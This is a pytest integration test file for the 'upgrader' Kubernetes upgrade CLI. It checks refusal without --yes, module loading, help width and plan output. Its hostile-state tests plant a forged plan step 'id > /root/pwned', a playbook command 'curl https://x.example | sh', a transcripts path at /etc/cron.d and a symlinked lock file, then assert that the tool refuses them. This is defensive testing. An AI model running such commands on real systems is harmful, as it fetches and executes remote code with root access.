"""The ``upgrader`` command line in a subprocess, as an operator runs it (stdin not a
terminal): ``apply`` without ``--yes`` is refused before any node or API is contacted, and
commands that need no cluster (``version``, ``--help``, ``rbac``) do not load its clients.

The "nothing contacted" proof is a real TCP listener that every address of the inventory and
the kubeconfig point at: it counts the connections it is offered (and closes each at once)."""

from __future__ import annotations

import json
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
import yaml
from cli_run import cli, cli_env, start_cli
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ed25519
from golden_check import check_golden, normalise, stop_message
from run_kit import recorded_run, shell_step

pytestmark = pytest.mark.integration


class Listener:
    """A TCP port on 127.0.0.1 that accepts and at once closes every connection, counting them."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.settimeout(0.2)
        self.port: int = self.sock.getsockname()[1]
        self.count = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            self.count += 1
            conn.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join(timeout=5)
        self.sock.close()


@dataclass
class Cluster:
    inventory: Path
    listeners: tuple[Listener, ...]

    @property
    def state_dir(self) -> Path:
        return self.inventory.parent / ".upgrader"

    def contacts(self) -> int:
        return sum(x.count for x in self.listeners)


@pytest.fixture
def cluster(tmp_path: Path) -> Iterator[Cluster]:
    """A well-formed inventory and kubeconfig whose every node and API address is a
    counting listener (the API and cp-1 share one; w-1 has its own)."""
    listener, other = Listener(), Listener()
    key = ed25519.Ed25519PrivateKey.generate().private_bytes(
        serialization.Encoding.PEM,
        serialization.PrivateFormat.OpenSSH,
        serialization.NoEncryption(),
    )
    identity = tmp_path / "id_ed25519"
    identity.write_bytes(key)
    identity.chmod(0o600)
    (tmp_path / "known_hosts").write_text("")
    kubeconfig = {
        "apiVersion": "v1",
        "kind": "Config",
        "clusters": [
            {"name": "c", "cluster": {"server": f"https://127.0.0.1:{listener.port}"}},
        ],
        "users": [{"name": "u", "user": {"token": "not-a-real-token"}}],
        "contexts": [{"name": "c", "context": {"cluster": "c", "user": "u"}}],
        "current-context": "c",
    }
    (tmp_path / "kubeconfig").write_text(yaml.safe_dump(kubeconfig))
    inventory = {
        "cluster": {"name": "quiet"},
        "kubeconfig": {"path": "./kubeconfig", "context": "c"},
        "ssh": {
            "user": "root",
            "port": listener.port,
            "identity_file": "./id_ed25519",
            "known_hosts": "./known_hosts",
            "connect_timeout": 5,
        },
        "packages": {"manager": "apt"},
        "nodes": [
            {"name": "cp-1", "address": "127.0.0.1", "role": "control-plane"},
            {"name": "w-1", "address": "127.0.0.1", "role": "worker", "port": other.port},
        ],
    }
    inv = tmp_path / "inventory.yaml"
    inv.write_text(yaml.safe_dump(inventory, sort_keys=False))
    try:
        yield Cluster(inv, (listener, other))
    finally:
        listener.close()
        other.close()


def _one_line_error(r: subprocess.CompletedProcess[str]) -> str:
    assert "Traceback" not in r.stderr, r.stderr
    lines = r.stderr.strip().splitlines()
    assert len(lines) == 1, r.stderr
    assert lines[0].startswith("error: "), r.stderr
    return lines[0]


def test_apply_without_yes_and_without_a_terminal_contacts_nothing(cluster: Cluster) -> None:
    r = cli("apply", "-i", str(cluster.inventory), "--to", "v1.28.4")
    assert r.returncode == 2, r.stdout + r.stderr
    assert "--yes" in _one_line_error(r)
    assert r.stdout == ""
    assert cluster.contacts() == 0
    assert not cluster.state_dir.exists()


def test_apply_without_yes_is_refused_whatever_the_other_flags(
    cluster: Cluster,
) -> None:
    # also with --nodes (which loads the inventory) and the other run flags
    r = cli(
        *("apply", "-i", str(cluster.inventory), "--to", "v1.28.4", "--nodes", "w-1"),
        *("--max-unavailable", "2", "--strict", "-v"),
    )
    assert r.returncode == 2, r.stdout + r.stderr
    assert "--yes" in r.stderr and "Traceback" not in r.stderr
    assert cluster.contacts() == 0
    assert not cluster.state_dir.exists()


def test_the_listener_sees_a_run_that_does_go_on(cluster: Cluster) -> None:
    """The control case: with --yes the same command reaches for the nodes (and fails there,
    since the listener speaks no SSH), so a count of 0 above means nothing was contacted."""
    r = cli("apply", "-i", str(cluster.inventory), "--to", "v1.28.4", "--yes")
    assert r.returncode in (4, 5), r.stdout + r.stderr
    assert "Traceback" not in r.stderr
    assert "urllib3" not in r.stderr and "Retrying" not in r.stderr  # no raw log lines
    assert (
        stop_message(r.stderr).splitlines()[1:]
        == [
            "stopped at: before the first step; nothing was changed on any node",
            "cordoned by this run: none",
            f"fix the cause above, then re-run: upgrader apply -i {cluster.inventory} --to v1.28.4",
        ]
        or "refusing to apply" in r.stderr
    ), r.stderr
    assert cluster.contacts() > 0


# --------------------------------------------------------------------------- start-up

HEAVY = ("kubernetes", "paramiko")


def _loaded_by(*args: str) -> tuple[int, set[str]]:
    """Exit code of ``upgrader ARGS`` run in-process and the top-level modules it loaded."""
    code = (
        "import json, sys\n"
        f"sys.argv = ['upgrader', *{list(args)!r}]\n"
        "from upgrader.cli import main\n"
        "rc = 0\n"
        "try:\n"
        "    main()\n"
        "except SystemExit as e:\n"
        "    rc = e.code or 0\n"
        "print(json.dumps([rc, sorted({m.split('.')[0] for m in sys.modules})]))\n"
    )
    r = subprocess.run(
        [sys.executable, "-c", code],
        capture_output=True,
        text=True,
        timeout=60,
        env=cli_env(),
        stdin=subprocess.DEVNULL,
    )
    assert r.returncode == 0, r.stderr
    rc, mods = json.loads(r.stdout.strip().splitlines()[-1])
    return int(rc), set(mods)


@pytest.mark.parametrize(
    "args",
    [
        ("version",),
        ("--help",),
        *((c, "--help") for c in ("plan", "apply", "facts", "status", "lab")),
        ("rbac",),
    ],
    ids=lambda a: " ".join(a),
)
def test_commands_that_need_no_cluster_do_not_load_its_clients(args: tuple[str, ...]) -> None:
    rc, mods = _loaded_by(*args)
    assert rc == 0
    assert not mods & set(HEAVY), sorted(mods & set(HEAVY))


def test_version_loads_no_terminal_renderer() -> None:
    rc, mods = _loaded_by("version")
    assert rc == 0 and "rich" not in mods


# --------------------------------------------------------------------------- hostile state files


def _recorded_run(cluster: Cluster, playbooks: Path | None = None) -> Path:
    """An unfinished run of the inventory's cluster as apply records it (state file, stored
    plan with its digest, input digests), written through the library. Returns the state path."""
    from upgrader import state as st
    from upgrader.apply import run_fingerprint, run_inputs
    from upgrader.core.versions import KubeVersion
    from upgrader.inventory import load_inventory
    from upgrader.planning import PlanRequest

    inv = load_inventory(cluster.inventory)
    req = PlanRequest(target=KubeVersion.parse("v1.28.4"), playbooks=playbooks)
    path = cluster.state_dir / "quiet.state.json"
    recorded_run(
        path,
        shell_step(),
        cluster="quiet",
        inventory=cluster.inventory,
        fingerprint=run_fingerprint(inv, req),
        inputs=run_inputs(inv, req),
        transcripts=st.default_transcripts_dir(path, "r1"),
    )
    return path


def test_a_symlinked_lock_file_is_refused_and_its_target_kept(
    cluster: Cluster, tmp_path: Path
) -> None:
    """Attack: `<state>.lock` planted as a symlink to another file; `status` used to truncate
    the target. Now: exit 2, one line naming the lock, the target intact, nothing contacted."""
    victim = tmp_path / "victim"
    victim.write_text("precious\n")
    cluster.state_dir.mkdir(mode=0o700)
    lock = cluster.state_dir / "quiet.state.json.lock"
    lock.symlink_to(victim)
    for args in (("status",), ("apply", "--to", "v1.28.4", "--yes")):
        r = cli(*args, "-i", str(cluster.inventory))
        assert r.returncode == 2, r.stdout + r.stderr
        assert _one_line_error(r) == (
            f"error: {lock}: is a symbolic link; refusing to follow it (remove the link and retry)"
        )
        assert victim.read_text() == "precious\n"
    assert cluster.contacts() == 0


def test_a_state_directory_others_can_write_is_refused(cluster: Cluster) -> None:
    """Attack: a state directory (e.g. a shared checkout) other users can write, holding a
    planted state and plan. Refused before anything is read or contacted."""
    _recorded_run(cluster)
    cluster.state_dir.chmod(0o777)
    r = cli("apply", "-i", str(cluster.inventory), "--to", "v1.28.4", "--yes")
    assert r.returncode == 2, r.stdout + r.stderr
    line = _one_line_error(r)
    assert line.startswith(f"error: {cluster.state_dir}: the state directory is writable by group")
    assert "chmod 700" in line
    assert cluster.contacts() == 0


def test_a_forged_stored_plan_is_refused_before_any_node_is_asked(cluster: Cluster) -> None:
    """Attack: the stored plan rewritten with a step of the attacker's. Its digest no longer
    matches the state's: exit 2, nothing contacted."""
    path = _recorded_run(cluster)
    plan = path.with_name(path.name + ".plan.json")
    doc = json.loads(plan.read_text())
    doc["entries"][0]["steps"][0]["command"] = "id > /root/pwned"
    plan.write_text(json.dumps(doc))
    r = cli("apply", "-i", str(cluster.inventory), "--to", "v1.28.4", "--yes")
    assert r.returncode == 2, r.stdout + r.stderr
    line = _one_line_error(r)
    assert line.startswith(f"error: {plan}: stored plan does not match the digest")
    assert cluster.contacts() == 0


def test_a_transcripts_path_outside_the_state_dir_is_not_trusted(cluster: Cluster) -> None:
    """Attack: the state file's `transcripts` pointed at another directory."""
    path = _recorded_run(cluster)
    doc = json.loads(path.read_text())
    doc["transcripts"] = "/etc/cron.d"
    path.write_text(json.dumps(doc))
    r = cli("apply", "-i", str(cluster.inventory), "--to", "v1.28.4", "--yes")
    assert r.returncode == 2, r.stdout + r.stderr
    line = _one_line_error(r)
    assert "transcripts path /etc/cron.d is outside the state directory" in line
    assert "--transcripts /etc/cron.d" in line
    assert cluster.contacts() == 0


def test_a_changed_playbook_names_what_changed_and_needs_a_flag(
    cluster: Cluster, tmp_path: Path
) -> None:
    from upgrader.core.playbook import default_playbook_dir

    pb = tmp_path / "pb"
    pb.mkdir()
    (pb / "default.yaml").write_text((default_playbook_dir() / "default.yaml").read_text())
    site = {"version": 1, "phases": {"worker": {"post": [
        {"name": "site-x", "kind": "shell", "description": "d", "command": "true"}]}}}  # fmt: skip
    (pb / "site.yaml").write_text(yaml.safe_dump(site))
    _recorded_run(cluster, playbooks=pb)
    site["phases"]["worker"]["post"][0]["command"] = "curl https://x.example | sh"  # type: ignore[index]
    (pb / "site.yaml").write_text(yaml.safe_dump(site))
    args = ("apply", "-i", str(cluster.inventory), "--to", "v1.28.4", "--yes", "--playbooks")
    r = cli(*args, str(pb))
    assert r.returncode == 2, r.stdout + r.stderr
    line = _one_line_error(r)
    assert "changed since run r1 started: " in line
    assert "playbook site.yaml changed; step worker.post.site-x changed;" in line
    assert "--abandon" in line and "--accept-changes" in line
    assert cluster.contacts() == 0
    # with the flag the run goes on (and reaches for the nodes: the listener is no SSH server)
    r = cli(*args, str(pb), "--accept-changes")
    assert r.returncode in (4, 5), r.stdout + r.stderr
    assert "resuming the run's stored steps (--accept-changes)" in r.stderr
    assert cluster.contacts() > 0


def test_to_a_minor_or_latest_is_resolved_and_said(cluster: Cluster) -> None:
    """`--to v1.28` plans the newest v1.28 patch of the packaged release data and says so on
    stderr (stdout stays JSON); an unknown minor is refused before any node is contacted,
    naming the nearest known minor and latest."""
    from upgrader.core.releases import load_release_data

    newest_128 = load_release_data().newest_patch((1, 28))
    facts = Path(__file__).parents[1] / "data/facts/one-cp-two-workers.json"
    r = cli("plan", "--facts", str(facts), "--to", "v1.28", "--json")
    assert r.returncode == 0, r.stdout + r.stderr
    assert json.loads(r.stdout)["target"] == str(newest_128)
    assert f"--to v1.28 means {newest_128} (the newest patch the release data knows)" in r.stderr
    r = cli("apply", "-i", str(cluster.inventory), "--to", "v1.99", "--yes")
    assert r.returncode == 2, r.stdout + r.stderr
    line = _one_line_error(r)
    assert line.startswith("error: --to: the release data") and "has no v1.99 series" in line
    assert "the nearest is v1." in line and "latest is v1." in line
    assert cluster.contacts() == 0


def test_unreachable_nodes_exit_4_for_plan_apply_and_facts(
    cluster: Cluster, tmp_path: Path
) -> None:
    """README "Exit codes": 4 when a node could not be reached over SSH (the API answering),
    for every command; `facts` still writes what it gathered, then says whom it missed."""
    from lab_api_fixture import LabAPI, small_spec

    api = LabAPI.start(tmp_path / "api", small_spec())
    try:
        doc = yaml.safe_load(cluster.inventory.read_text())
        doc["kubeconfig"] = {"path": str(api.dir / "kubeconfig"), "context": "lab"}
        # and a node the API does not know either: no fact of it at all
        doc["nodes"].append({**doc["nodes"][1], "name": "w-9", "address": "127.0.0.2"})
        cluster.inventory.write_text(yaml.safe_dump(doc, sort_keys=False))
        inv = str(cluster.inventory)
        plan = cli("plan", "-i", inv, "--to", "v1.28.4")
        assert plan.returncode == 4, plan.stdout + plan.stderr
        # one line per unreachable node; nothing caused by its missing facts (no
        # KUBELET_VERSION_UNKNOWN offering --force), no raw log line
        listed = [x for x in plan.stdout.splitlines() if x.startswith("  - NODE_UNREACHABLE")]
        assert [x.split("]")[0] for x in listed] == [
            f"  - NODE_UNREACHABLE [{n}" for n in ("cp-1", "w-1", "w-9")
        ], plan.stdout
        assert "_UNKNOWN" not in plan.stdout and "--force" not in plan.stdout, plan.stdout
        assert "upgrader.transport" not in plan.stderr and "WARNING" not in plan.stderr
        applied = cli("apply", "-i", inv, "--to", "v1.28.4", "--yes")
        assert applied.returncode == 4, applied.stdout + applied.stderr
        assert "refusing to apply" in applied.stderr and "NODE_UNREACHABLE" in applied.stderr
        stop = normalise(stop_message(applied.stderr), inventory=cluster.inventory)
        check_golden("stop-blocker-unreachable.txt", stop)
        out = tmp_path / "facts.json"
        facts = cli("facts", "-i", inv, "-o", str(out))
        assert facts.returncode == 4, facts.stdout + facts.stderr
        found = {(f["code"], f.get("node")) for f in json.loads(out.read_text())["findings"]}
        assert {("NODE_UNREACHABLE", n) for n in ("cp-1", "w-1", "w-9")} <= found
        last = facts.stderr.strip().splitlines()[-1]
        assert last == "error: incomplete facts: could not reach cp-1, w-1, w-9 (see the findings)"
    finally:
        api.stop()


def test_ctrl_c_while_gathering_facts_says_nothing_was_changed(
    cluster: Cluster, tmp_path: Path
) -> None:
    """The nodes accept SSH connections and never answer: apply is still reading facts
    when Ctrl-C comes. It stops with 130 and says that no step ran and nothing changed."""
    import signal

    from lab_api_fixture import LabAPI, small_spec

    silent = socket.create_server(("127.0.0.1", 0))
    held: list[socket.socket] = []

    def accept() -> None:
        try:
            while True:
                held.append(silent.accept()[0])
        except OSError:
            return

    threading.Thread(target=accept, daemon=True).start()
    api = LabAPI.start(tmp_path / "api", small_spec())
    try:
        doc = yaml.safe_load(cluster.inventory.read_text())
        doc["kubeconfig"] = {"path": str(api.dir / "kubeconfig"), "context": "lab"}
        doc["ssh"]["port"] = silent.getsockname()[1]
        doc["nodes"][1]["address"] = "127.0.0.2"  # refused at once; cp-1 hangs
        cluster.inventory.write_text(yaml.safe_dump(doc, sort_keys=False))
        args = ["apply", "-i", str(cluster.inventory), "--to", "v1.28.4", "--yes"]
        proc = start_cli(*args)
        try:
            deadline = time.monotonic() + 60
            while not held:  # a node's SSH connection is open: the facts are being read
                assert proc.poll() is None and time.monotonic() < deadline, "no connection"
                time.sleep(0.05)
            t0 = time.monotonic()
            proc.send_signal(signal.SIGINT)
            _, err = proc.communicate(timeout=60)
            took = time.monotonic() - t0
        finally:
            if proc.poll() is None:
                proc.kill()
        assert proc.returncode == 130, err
        # it did not wait for cp-1's probe, which hangs until the 30 s SSH banner timeout
        # (before: the pool's close waited for that connect, 17 s here)
        assert took < 15, took
        assert "Traceback" not in err
        stop = normalise(stop_message(err), inventory=cluster.inventory)
        check_golden("stop-sigint-gathering.txt", stop)
        assert not cluster.state_dir.joinpath("quiet.state.json").exists()
    finally:
        silent.close()
        for c in held:
            c.close()
        api.stop()


@pytest.mark.parametrize(
    "command",
    [
        (),
        ("plan",),
        ("apply",),
        ("facts",),
        ("status",),
        ("rbac",),
        ("lab",),
        ("lab", "up"),
        ("lab", "faults"),
    ],
)
def test_help_is_readable_at_80_columns(command: tuple[str, ...]) -> None:
    """Every option of the command appears whole in `--help` at 80 columns, and no line is
    wider than the terminal."""
    import typer.main

    from upgrader.cli import app
    from upgrader_lab.cli import lab_app

    env = cli_env() | {"COLUMNS": "80"}
    r = subprocess.run(
        [sys.executable, "-m", "upgrader", *command, "--help"],
        capture_output=True,
        text=True,
        env=env,
        stdin=subprocess.DEVNULL,
        timeout=60,
    )
    assert r.returncode == 0, r.stderr
    assert max(len(line) for line in r.stdout.splitlines()) <= 80, r.stdout
    assert "…" not in r.stdout
    root, path = (lab_app, command[1:]) if command[:1] == ("lab",) else (app, command)
    cmd = typer.main.get_command(root)
    for name in path:
        cmd = cmd.commands[name]  # type: ignore[attr-defined]
    options = [o for param in cmd.params for o in getattr(param, "opts", []) if o[:1] == "-"]
    assert "--help" in r.stdout
    for opt in options:
        assert opt in r.stdout, f"{opt} missing or cut in {' '.join(command)} --help"


def test_plan_is_brief_by_default_and_detailed_on_request() -> None:
    """`plan` prints the brief plan (order, each distinct command once), `--detail` every step
    of every node with its skip check, `--json` the data; all three from the same plan."""
    facts = Path(__file__).parents[1] / "data/facts/one-cp-two-workers.json"
    base = ("plan", "--facts", str(facts), "--to", "v1.28.4")
    brief, detail, doc = cli(*base), cli(*base, "--detail"), cli(*base, "--json")
    for r in (brief, detail, doc):
        assert r.returncode == 0, r.stdout + r.stderr
    visits = json.loads(doc.stdout)["nodes"]
    assert "Order:" in brief.stdout and "skipped when" not in brief.stdout
    assert brief.stdout.count("    $ kubeadm upgrade node\n") == 1  # once, for w-1 and w-2
    assert "  kubeadm-upgrade-node on all 2 workers:" in brief.stdout
    assert "[v1.28.4] w-2 (worker, worker)" in detail.stdout and "skipped when" in detail.stdout
    assert detail.stdout.count("$ kubeadm upgrade node\n") == 2
    n_steps = sum(len(v["steps"]) for v in visits)
    for r in (brief, detail):
        assert r.stdout.splitlines()[-1] == f"Can run: {n_steps} steps on 3 nodes."
    assert len(brief.stdout.splitlines()) < len(detail.stdout.splitlines())
